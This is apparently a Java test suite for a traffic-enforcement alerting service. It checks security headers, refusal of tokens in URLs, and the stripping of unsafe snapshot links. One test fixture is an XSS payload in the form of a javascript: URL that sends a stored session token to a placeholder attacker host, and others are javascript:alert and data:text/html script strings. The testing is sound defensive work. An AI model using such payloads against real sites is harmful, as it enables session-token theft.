package io.gridwarden.alerting;

import static io.gridwarden.alerting.AlertingFixtures.ADMIN_TOKEN;
import static io.gridwarden.alerting.AlertingFixtures.SCRAPER_TOKEN;
import static io.gridwarden.alerting.AlertingFixtures.violation;
import static io.gridwarden.alerting.AlertingHarness.TIMEOUT;
import static org.assertj.core.api.Assertions.assertThat;

import io.gridwarden.common.action.Action;
import io.gridwarden.common.action.Violation;
import io.gridwarden.common.action.ViolationStatus;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.VertxExtension;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** What a browser is told about every operations response, and what of a device's data may reach its DOM as a link. */
@ExtendWith(VertxExtension.class)
class OpsResponseHeadersTest {

    @TempDir
    Path dir;
    private Vertx vertx;
    private AlertingHarness harness;

    @BeforeEach
    void start(Vertx vertx) throws Exception {
        this.vertx = vertx;
        harness = new AlertingHarness(vertx, dir);
        harness.deploy(null);
    }

    @AfterEach
    void stop() throws Exception {
        harness.close();
    }

    @Test
    @DisplayName("Every operations response, page, API, error and health alike, carries CSP, X-Frame-Options, nosniff and no-referrer")
    void everyResponseCarriesTheSecurityHeaders() throws Exception {
        List<HttpResponse<Buffer>> responses = List.of(
                harness.get("/", null),
                harness.get("/app.js", null),
                harness.get("/health/live", null),
                harness.get("/health/ready", null),
                harness.get("/metrics", null),
                harness.get("/metrics", SCRAPER_TOKEN),
                harness.get("/v1/town", ADMIN_TOKEN),
                harness.get("/v1/town", null),
                harness.get("/v1/violations?limit=many", ADMIN_TOKEN),
                harness.get("/no/such/page", null),
                harness.post("/v1/violations/vio-none/close", ADMIN_TOKEN, new JsonObject().put("reason", "test")));
        for (HttpResponse<Buffer> r : responses) {
            assertThat(r.getHeader("Content-Security-Policy")).as("CSP on a %d", r.statusCode())
                    .contains("default-src 'self'").contains("script-src 'self'").contains("frame-ancestors 'none'")
                    .doesNotContain("unsafe-inline").doesNotContain("unsafe-eval");
            assertThat(r.getHeader("X-Frame-Options")).isEqualTo("DENY");
            assertThat(r.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
            assertThat(r.getHeader("Referrer-Policy")).isEqualTo("no-referrer");
        }
        try (SseClient sse = SseClient.open(vertx, harness.port(), "/v1/alerts/stream", Map.of("Authorization", "Bearer " + ADMIN_TOKEN))) {
            assertThat(sse.header("X-Frame-Options")).isEqualTo("DENY");
            assertThat(sse.header("Content-Security-Policy")).contains("default-src 'self'");
        }
    }

    @Test
    @DisplayName("The dashboard and the officer's page load no inline script, only their own files, so the CSP needs no 'unsafe-inline'")
    void dashboardHasNoInlineScript() throws Exception {
        for (String path : List.of("/", "/officer/")) {
            String page = harness.get(path, null).bodyAsString();
            assertThat(page).as(path).contains("<script src=\"");
            assertThat(page.replaceAll("<script src=\"/?[a-z]+\\.js\"></script>", "")).as(path).doesNotContain("<script")
                    .doesNotContain("style=").doesNotContain("onclick").doesNotContain("onload");
        }
    }

    @Test
    @DisplayName("An operator token in the query string is not accepted (it would end up in logs and browser history)")
    void tokenInQueryIsRefused() throws Exception {
        assertThat(harness.get("/v1/town?access_token=" + ADMIN_TOKEN, null).statusCode()).isEqualTo(401);
        assertThat(harness.get("/v1/alerts/stream?access_token=" + ADMIN_TOKEN, null).statusCode()).isEqualTo(401);
    }

    @Test
    @DisplayName("A device-supplied javascript: snapshot is not served as evidence, by history, by id or on the stream; http(s) ones are")
    void onlyHttpSnapshotsAreServed() throws Exception {
        Violation hostile = withSnapshot(violation("t-evil", AlertingFixtures.HECUN_CAMERA, "hecun", ViolationStatus.DETECTED),
                "javascript:fetch('//evil.example/'+sessionStorage.getItem('gw.token'))");
        Violation sneaky = withSnapshot(violation("t-case", AlertingFixtures.HECUN_CAMERA, "hecun", ViolationStatus.DETECTED),
                " JaVaScRiPt:alert(1)");
        Violation data = withSnapshot(violation("t-data", AlertingFixtures.HECUN_CAMERA, "hecun", ViolationStatus.DETECTED),
                "data:text/html,<script>alert(1)</script>");
        Violation honest = violation("t-ok", AlertingFixtures.HECUN_CAMERA, "hecun", ViolationStatus.DETECTED);
        try (SseClient sse = SseClient.open(vertx, harness.port(), "/v1/alerts/stream", Map.of("Authorization", "Bearer " + ADMIN_TOKEN))) {
            for (Violation v : List.of(hostile, sneaky, data, honest)) {
                harness.append(Action.update(v));
            }
            for (Violation v : List.of(hostile, sneaky, data)) {
                JsonObject streamed = new JsonObject(sse.next(TIMEOUT).data());
                assertThat(streamed.getString("id")).isEqualTo(v.id());
                assertThat(streamed.getString("snapshot")).as("stream: %s", v.snapshot()).isNull();
            }
            assertThat(new JsonObject(sse.next(TIMEOUT).data()).getString("snapshot")).isEqualTo(honest.snapshot());
        }
        AlertingHarness.eventually("the store holds all four", () -> history().size() == 4);
        for (Object item : history()) {
            JsonObject v = (JsonObject) item;
            assertThat(v.getString("snapshot")).as("history").isIn(null, honest.snapshot());
        }
        for (Violation v : List.of(hostile, sneaky, data)) {
            assertThat(harness.get("/v1/violations/" + v.id(), ADMIN_TOKEN).bodyAsJsonObject().getString("snapshot")).isNull();
        }
        assertThat(harness.get("/v1/violations/" + honest.id(), ADMIN_TOKEN).bodyAsJsonObject().getString("snapshot"))
                .isEqualTo(honest.snapshot());
    }

    private io.vertx.core.json.JsonArray history() {
        try {
            return harness.get("/v1/violations", ADMIN_TOKEN).bodyAsJsonObject().getJsonArray("items");
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static Violation withSnapshot(Violation v, String snapshot) {
        return new Violation(v.id(), v.category(), v.status(), v.camera(), v.sensor(), v.zone(), v.jurisdiction(), v.grid(), v.track(),
                v.label(), v.lat(), v.lon(), v.detectedAt(), v.warnedAt(), v.dispatchedAt(), v.officer(), snapshot, v.updatedAt(), v.note());
    }
}
